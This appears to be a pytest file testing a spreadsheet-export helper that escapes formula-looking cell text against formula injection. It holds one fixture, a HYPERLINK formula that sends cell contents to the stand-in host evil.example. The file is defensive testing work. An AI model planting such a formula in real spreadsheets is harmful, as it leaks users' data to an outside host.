"""The one escaping helper of every export: formula-looking text is written as text."""

from __future__ import annotations

import datetime
from decimal import Decimal

import pytest

from branches.excel import safe_cell, safe_row

FORMULA = '=HYPERLINK("http://evil.example/?"&E2&G2,"详情")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-"])
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["张三", "", "1+1", "a=b", None, -3, -2.5, Decimal("-1.25"), datetime.date(2026, 1, 1)]
)
def test_other_values_and_numbers_pass_unchanged(value):
    assert safe_cell(value) == value


def test_a_row_is_escaped_cell_by_cell():
    assert safe_row(["王五", FORMULA, -5]) == ["王五", "'" + FORMULA, -5]
